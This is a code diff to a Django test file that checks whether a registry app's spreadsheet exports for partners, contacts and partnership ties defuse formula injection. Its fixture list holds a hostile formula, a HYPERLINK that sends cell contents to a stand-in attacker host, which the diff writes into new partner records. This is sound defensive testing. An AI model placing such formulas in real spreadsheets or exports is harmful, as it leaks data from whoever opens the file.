@@ -11,9 +11,10 @@ from django.contrib import admin
 from openpyxl import load_workbook
 
 from registry.admin.lists import ListImportExportMixin
-from registry.models import Kps, KpsKind, Pengurus, PengurusRole, Wksbm
+from registry.models import Jejaring, Kps, KpsKind, Mitra, MitraContact, Pengurus, PengurusRole, Wksbm
 from registry.spreadsheet_safety import DANGEROUS_STARTS
 from tests.factories import MembershipFactory, PengurusFactory
+from tests.registry.network.factories import JejaringFactory, MitraContactFactory
 
 HOSTILE = [
     '=HYPERLINK("https://jahat.example/?d="&A1,"Klik")',
@@ -45,6 +46,11 @@ def hostile_records(diy):
     )
     KpsKind.objects.filter(pk=kps.kind_id).update(name=HOSTILE[3])
     Kps.objects.filter(pk=kps.pk).update(name=HOSTILE[1], leader=HOSTILE[0])
+    # A mitra with its contact, and its tie with the WKSBM.
+    tie = JejaringFactory(wksbm=wksbm, mitra=MitraContactFactory().mitra)
+    Mitra.objects.filter(pk=tie.mitra_id).update(name=HOSTILE[0], address=HOSTILE[1], notes=HOSTILE[5])
+    MitraContact.objects.filter(mitra=tie.mitra_id).update(name=HOSTILE[2], position=HOSTILE[3])
+    Jejaring.objects.filter(pk=tie.pk).update(basis_number=HOSTILE[4], description=HOSTILE[1])
     return wksbm, kps
 
 
@@ -58,7 +64,12 @@ def exported_cells(response, extension: str) -> list:
 
 
 def test_every_list_export_is_covered():
-    assert sorted(LIST_EXPORTS) == ["/admin/registry/kps/export/", "/admin/registry/wksbm/export/"]
+    assert sorted(LIST_EXPORTS) == [
+        "/admin/registry/jejaring/export/",
+        "/admin/registry/kps/export/",
+        "/admin/registry/mitra/export/",
+        "/admin/registry/wksbm/export/",
+    ]
 
 
 @pytest.mark.parametrize("extension", FORMATS)
